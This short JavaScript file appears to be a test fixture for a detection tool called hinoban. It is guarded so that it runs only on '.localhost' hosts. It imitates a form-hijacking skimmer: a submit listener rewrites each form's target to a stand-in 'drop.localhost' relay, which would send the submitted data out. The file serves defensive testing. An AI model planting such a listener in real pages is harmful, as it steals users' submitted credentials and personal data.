/* Harmless imitation, for hinoban's tests: form target exchanged at the last moment. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
(function () {
	document.addEventListener('submit', function (e) { e.target.action = 'http://drop.localhost:' + location.port + '/relay'; }, true);
})();
